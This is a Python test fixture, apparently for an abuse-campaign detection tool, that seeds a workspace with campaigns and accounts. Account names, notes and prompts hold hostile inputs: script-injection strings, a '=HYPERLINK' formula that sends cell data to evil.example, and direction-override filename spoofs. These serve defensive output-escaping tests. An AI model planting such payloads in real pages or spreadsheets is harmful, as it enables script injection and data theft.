"""A workspace with enough campaigns to work through, and with what an attacker can write that a page will show."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

import pyarrow as pa

from stillwatch.model.table import Table
from stillwatch.model.tables import (
    ACCOUNT_DAYS,
    ACCOUNT_EVENTS,
    ACCOUNT_FINDINGS,
    CAMPAIGN_MEMBERS,
    CAMPAIGNS,
    CONTENTS,
    DETECTION_RUNS,
    EXCHANGE_RECORDS,
    INGEST_BATCHES,
    INGEST_REJECTS,
    PROMPT_SKETCHES,
    TOKEN_USES,
)
from stillwatch.store.workspace import Workspace
from tests.response.worlds import DAY, NOON, Found, store

HOSTILE: Final = (
    "<img src=x onerror=alert(1)>",
    "\"'><script>alert(2)</script>",
    "{@html '<b>bold</b>'}",
    "javascript:alert(3)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "a/b?c=d#e%2f",
    "\u202egnp.exe\u2066",
    "zero\u200bwidth\u0007bell",
    "x" * 400,
)
"""Names of accounts: markup, formulas, addresses, characters that change direction or do not show."""
HOSTILE_NOTE: Final = "<script>alert('note')</script>\u202e[click](https://evil.example)"
HOSTILE_PROMPT: Final = "<script>alert('prompt')</script> \u202egnp.exe\u2066 \x00\x1b[2J =1+1 " + "A" * 1_000_000
"""A stored text of a megabyte."""
RUN: Final = "run-1"
N_CAMPAIGNS: Final = 60
N_ACCOUNTS: Final = 300
TOKENS: Final = {"system": 2**62 + 1, "skeleton": 11}
CAPABILITIES: Final = ("tool_use", "agentic_reasoning", "software_engineering", "data_analysis")


def workspace(folder: Path) -> Workspace:
    """One run with many campaigns; the largest has hostile names in it."""
    environ = {"STILLWATCH_KEYS": str(folder.parent / f"{folder.name}-keys.json")}
    made = Workspace.init(folder, environ=environ)
    found = Found(run_id=RUN)
    store(made, found)
    rows: dict[Table, list[dict[str, object]]] = {
        DETECTION_RUNS: [_run(found)],
        CAMPAIGNS: [_campaign(found, n) for n in range(N_CAMPAIGNS)],
        ACCOUNT_FINDINGS: [_finding(found, name, n) for n, name in enumerate(accounts())],
        CAMPAIGN_MEMBERS: [_member(found, name, kind) for name in accounts() for kind in ("system", "skeleton")],
    }
    with made.lake.write() as writer:
        for table, content in rows.items():
            writer.replace(table, RUN, pa.Table.from_pylist(content, schema=table.schema))
        for table, content in _traffic().items():
            writer.replace(table, str(DAY), pa.Table.from_pylist(content, schema=table.schema))
        for table, content in (_text() | _arrivals()).items():
            writer.append(table, pa.Table.from_pylist(content, schema=table.schema))
        writer.commit()
    return made


def hostile_assessment() -> str:
    """An assessment of the first campaign, in TOML, whose words are an attacker's."""
    words = json.dumps(HOSTILE_NOTE)
    parts = [
        f'[[hypotheses]]\nkind = "{kind}"\nstatement = {words}\nlikelihood = "unlikely"\nconfidence = "low"\n'
        f'supporting = [{{ kind = "observation", says = {words}, ref = {words} }}]\n'
        for kind in ("operator", "reseller", "honest_customer", "framing")
    ]
    return 'campaign = "c-000"\n' + "\n".join(parts)


def accounts() -> list[str]:
    """The members of the first campaign."""
    return [*HOSTILE, *(f"acct-{n:04}" for n in range(N_ACCOUNTS - len(HOSTILE)))]


def _traffic() -> dict[Table, list[dict[str, object]]]:
    seen = datetime(2026, 5, 9, 6, tzinfo=UTC)
    shared = {
        "day": DAY, "n": 40, "input_tokens": 9, "output_tokens": 5, "openings": [6] * 5, "micro_cells": [],
        "prompts": [], "capabilities": [], "materials": [], "first_seen_at": seen, "last_seen_at": seen,
    }  # fmt: skip
    return {
        TOKEN_USES: [
            shared | {"account_id": name, "token_kind": kind, "token": token}
            for name in accounts()
            for kind, token in TOKENS.items()
        ],
        ACCOUNT_DAYS: [
            shared | {"account_id": name, "n_errors": 0, "n_rate_limited": 0, "models": ["m-1"]} for name in accounts()
        ],
    }


def _text() -> dict[Table, list[dict[str, object]]]:
    """One exchange of a member whose text was kept."""
    shared = {"day": DAY, "record_key": 1, "exchange_key": 1, "ingested_at": NOON}
    record = {
        "source": "s", "source_record_id": "r-1", "ingest_batch_id": "b", "account_id": "acct-0000", "status": "ok",
        "start_time": datetime(2026, 5, 9, 6, tzinfo=UTC), "content_capture": "full", "input_messages_ref": "text-1",
    }  # fmt: skip
    text = {"day": DAY, "content_ref": "text-1", "kind": "input_messages", "ingested_at": NOON}
    return {
        EXCHANGE_RECORDS: [shared | record],
        PROMPT_SKETCHES: [shared | {"sketch_version": 1, "skeleton_hash": TOKENS["skeleton"], "shingles": []}],
        CONTENTS: [text | {"body": HOSTILE_PROMPT, "n_chars": len(HOSTILE_PROMPT)}],
    }


def _arrivals() -> dict[Table, list[dict[str, object]]]:
    """A batch from a hostile place, a record of it that was rejected, and appeals of hostile accounts."""
    batch = {
        "ingest_batch_id": "b", "source": HOSTILE[0], "uri": HOSTILE_NOTE, "digest": "d", "source_version": "1",
        "started_at": NOON, "finished_at": NOON, "records_in": 2, "rows_out": 1, "duplicates": 0, "rejected": 1,
        "field_coverage": json.dumps({HOSTILE[0]: 1}),
    }  # fmt: skip
    reject = {"ingest_batch_id": "b", "line_no": 1, "reason": HOSTILE[0], "n_bytes": 9, "digest": "d"}
    asked = {"day": DAY, "event_time": NOON, "event_name": "appeal_opened", "ingest_batch_id": "b",
             "ingested_at": NOON}  # fmt: skip
    return {
        INGEST_BATCHES: [batch],
        INGEST_REJECTS: [reject],
        ACCOUNT_EVENTS: [asked | {"event_id": str(n), "account_id": name} for n, name in enumerate(HOSTILE)],
    }


def _run(found: Found) -> dict[str, object]:
    return {
        "run_id": RUN, "as_of": found.as_of, "known_at": None, "window_start": found.as_of - timedelta(days=45),
        "by": "account", "engine": "duckdb", "alpha": 1e-4, "calibration_id": "cal-1", "n_accounts": 1000,
        "n_exchanges": 100_000, "n_groups": 3, "notes": [HOSTILE_NOTE],
    }  # fmt: skip


def _campaign(found: Found, n: int) -> dict[str, object]:
    size = N_ACCOUNTS - 3 * n
    return {
        "run_id": RUN, "campaign_id": f"c-{n:03}", "tier": "accuse" if n % 3 == 0 else "review", "n_accounts": size,
        "n_exchanges": 100 * size, "input_tokens": 2**40 + n, "output_tokens": 2**33 - n,
        "first_seen_at": found.as_of - timedelta(days=20), "last_seen_at": found.as_of - timedelta(hours=n),
        "capabilities": [CAPABILITIES[n % 4], CAPABILITIES[(n + 1) % 4]],
        "signals": ["volume_dispersion", "hour_homogeneity", "no_such_signal"],
        "signal_p_values": [1e-6, 0.02, 0.4], "signal_contributions": [3.0, 1.5, -0.25],
        "token_kinds": ["system", "skeleton"], "nearest_lookalike": "automation_fleet", "margin": 2.0 - n / 20,
        "score": 9.0 - n / 10, "baseline": 1.0, "p_value": 1e-4, "q_value": 0.001 * (n + 1),
        "calibration": "shipped", "calibration_id": "cal-1", "best_group_id": f"g-{n}", "n_groups": 1,
    }  # fmt: skip


def _finding(found: Found, account_id: str, n: int) -> dict[str, object]:
    return {
        "run_id": RUN, "account_id": account_id, "tier": "accuse" if n % 2 else "review", "campaign_id": "c-000",
        "score": 9.0, "p_value": 1e-4, "q_value": 0.01, "first_flagged_at": NOON, "reasons": ["volume_dispersion"],
        "queue": "enforcement", "n_exchanges": 100, "n_flagged_exchanges": 40 + n % 60,
    }  # fmt: skip


def _member(found: Found, account_id: str, kind: str) -> dict[str, object]:
    return {
        "run_id": RUN, "campaign_id": "c-000", "account_id": account_id, "token_kind": kind,
        "token": TOKENS[kind], "n": 40,
        "first_seen_at": found.as_of, "last_seen_at": found.as_of,
    }  # fmt: skip
